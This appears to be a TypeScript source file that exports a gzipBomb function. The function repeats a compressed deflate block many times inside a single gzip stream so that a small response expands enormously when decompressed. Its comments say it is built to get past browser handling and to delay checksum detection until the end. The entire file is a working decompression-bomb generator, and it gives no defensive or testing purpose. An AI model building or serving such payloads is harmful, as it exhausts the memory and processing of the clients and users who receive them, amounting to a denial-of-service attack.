import { constants, deflateRawSync } from 'node:zlib';

/** Ended by a full flush, a block means the same wherever it stands. */
function pack(text: string): Buffer {
  return deflateRawSync(text, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
}

/**
 * A text in gzip (RFC 1952) that is much larger than what is sent. One stream, because browsers stop after the first
 * member of several. Its checksum is wrong, which shows only at the end.
 * @param head what comes first
 * @param block what comes again and again
 */
export function gzipBomb(head: string, block: string, times: number): Buffer {
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  const packed = pack(block);
  const end = Buffer.concat([deflateRawSync(''), Buffer.alloc(8)]);
  return Buffer.concat([header, pack(head), ...Array.from({ length: times }, () => packed), end]);
}
